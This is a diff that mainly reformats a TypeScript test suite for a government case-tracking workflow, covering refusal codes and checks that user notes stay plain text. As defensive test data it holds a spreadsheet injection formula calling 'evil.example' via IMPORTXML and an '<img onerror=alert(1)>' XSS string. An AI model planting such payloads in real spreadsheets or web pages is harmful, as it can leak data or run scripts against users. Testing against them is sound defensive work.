@@ -1,4 +1,15 @@
-import { approve, complete, delivery, letter, monitoring, numberOf, openCase, order, receipt, returned } from '../../workspace/samples';
+import {
+  approve,
+  complete,
+  delivery,
+  letter,
+  monitoring,
+  numberOf,
+  openCase,
+  order,
+  receipt,
+  returned,
+} from '../../workspace/samples';
 import { email, Story } from '../support/story';
 import { caseAt, letterUrut } from './steps';
 
@@ -56,9 +67,13 @@ describe('what is not allowed is refused with a reason, and nothing is recorded'
     const { no } = await caseAt(story, '3');
     const seen = 3;
     await story.act('KABAG', no, approve());
-    expect((await unchanged(() => story.refused('KABAG', no, returned('Terlambat berubah pikiran.'), { visit: seen }))).code).toBe(
-      'VISIT_MOVED',
-    );
+    expect(
+      (
+        await unchanged(() =>
+          story.refused('KABAG', no, returned('Terlambat berubah pikiran.'), { visit: seen }),
+        )
+      ).code,
+    ).toBe('VISIT_MOVED');
   });
 
   test('the same press of the button twice: the first answer, one decision', async () => {
@@ -86,7 +101,9 @@ describe('what is not allowed is refused with a reason, and nothing is recorded'
 
   test('delivery before the letter has its number', async () => {
     const { no } = await caseAt(story, 'gate');
-    expect((await unchanged(() => story.refused('KATIM', no, delivery(['DINKES'], '2026-11-24')))).code).toBe('GATE_CLOSED');
+    expect((await unchanged(() => story.refused('KATIM', no, delivery(['DINKES'], '2026-11-24')))).code).toBe(
+      'GATE_CLOSED',
+    );
     expect((await unchanged(() => story.refused('KATIM', no, complete))).code).toBe('GATE_CLOSED');
   });
 
@@ -110,9 +127,15 @@ describe('what is not allowed is refused with a reason, and nothing is recorded'
     const refusal = await unchanged(() => story.refused('KATIM', no, complete));
     expect(refusal.code).toBe('ROWS_OPEN');
     expect(refusal.message).toContain('Kecamatan Ciledug');
-    expect((await unchanged(() => story.refused('KATIM', no, delivery(['DISHUB'], '2026-11-24')))).code).toBe('PD_NOT_TARGET');
-    expect((await unchanged(() => story.refused('KATIM', no, receipt('DINKES', '2026-11-24')))).code).toBe('ACTION_NOT_HERE');
-    expect((await unchanged(() => story.refused('ANALIS', no, monitoring('DINKES', '2026-11-24')))).code).toBe('WRONG_ROLE');
+    expect((await unchanged(() => story.refused('KATIM', no, delivery(['DISHUB'], '2026-11-24')))).code).toBe(
+      'PD_NOT_TARGET',
+    );
+    expect((await unchanged(() => story.refused('KATIM', no, receipt('DINKES', '2026-11-24')))).code).toBe(
+      'ACTION_NOT_HERE',
+    );
+    expect(
+      (await unchanged(() => story.refused('ANALIS', no, monitoring('DINKES', '2026-11-24')))).code,
+    ).toBe('WRONG_ROLE');
   });
 
   test('a Perangkat Daerah that does not exist', async () => {
@@ -124,17 +147,31 @@ describe('what is not allowed is refused with a reason, and nothing is recorded'
 
   test('cancelling: by the Kabag with a reason, until the letter is signed', async () => {
     const early = await caseAt(story, '4');
-    expect((await unchanged(() => story.refused('ASISTEN', early.no, { type: 'cancel', reason: 'Coba' }))).code).toBe('WRONG_ROLE');
-    const view = await story.act('KABAG', early.no, { type: 'cancel', reason: 'Kegiatan digabung dengan kasus lain.' });
+    expect(
+      (await unchanged(() => story.refused('ASISTEN', early.no, { type: 'cancel', reason: 'Coba' }))).code,
+    ).toBe('WRONG_ROLE');
+    const view = await story.act('KABAG', early.no, {
+      type: 'cancel',
+      reason: 'Kegiatan digabung dengan kasus lain.',
+    });
     expect(view.status).toBe('BATAL');
-    expect((await unchanged(() => story.refused('ASISTEN', early.no, approve(), { visit: 4 }))).code).toBe('CASE_ENDED');
+    expect((await unchanged(() => story.refused('ASISTEN', early.no, approve(), { visit: 4 }))).code).toBe(
+      'CASE_ENDED',
+    );
     const signed = await caseAt(story, 'gate');
-    expect((await unchanged(() => story.refused('KABAG', signed.no, { type: 'cancel', reason: 'Terlambat.' }))).code).toBe('CANCEL_TOO_LATE');
+    expect(
+      (await unchanged(() => story.refused('KABAG', signed.no, { type: 'cancel', reason: 'Terlambat.' })))
+        .code,
+    ).toBe('CANCEL_TOO_LATE');
   });
 
   test('a case that does not exist', async () => {
-    expect((await unchanged(() => story.refused('KABAG', 999, approve(), { visit: 1 }))).code).toBe('CASE_UNKNOWN');
-    expect((await unchanged(() => story.refused('KABAG', 9999, approve(), { visit: 1 }))).code).toBe('CASE_UNKNOWN');
+    expect((await unchanged(() => story.refused('KABAG', 999, approve(), { visit: 1 }))).code).toBe(
+      'CASE_UNKNOWN',
+    );
+    expect((await unchanged(() => story.refused('KABAG', 9999, approve(), { visit: 1 }))).code).toBe(
+      'CASE_UNKNOWN',
+    );
   });
 
   test('a call that does not keep to the contract names the place', async () => {
@@ -164,14 +201,17 @@ describe('what people write stays text', () => {
   });
   afterAll(() => story.end());
 
-  test.each(['=1+1', '=IMPORTXML("http://evil.example","//x")', '+62 21', '-5', '@nama', "'0812"])('a note %s', async (note) => {
-    const { no } = await caseAt(story, '3');
-    await story.act('KABAG', no, returned(note));
-    const cells = story.world.cells(story.registerId, 'Langkah').flat();
-    const found = cells.filter((cell) => cell.value === note);
-    expect(found.length).toBeGreaterThan(0);
-    expect(found.every((cell) => cell.formula === null && cell.text === note)).toBe(true);
-  });
+  test.each(['=1+1', '=IMPORTXML("http://evil.example","//x")', '+62 21', '-5', '@nama', "'0812"])(
+    'a note %s',
+    async (note) => {
+      const { no } = await caseAt(story, '3');
+      await story.act('KABAG', no, returned(note));
+      const cells = story.world.cells(story.registerId, 'Langkah').flat();
+      const found = cells.filter((cell) => cell.value === note);
+      expect(found.length).toBeGreaterThan(0);
+      expect(found.every((cell) => cell.formula === null && cell.text === note)).toBe(true);
+    },
+  );
 
   test('HTML in a name reaches mail and page as text', async () => {
     const judul = '<img src=x onerror=alert(1)> & {{nama_sekda}} $1 \\n';
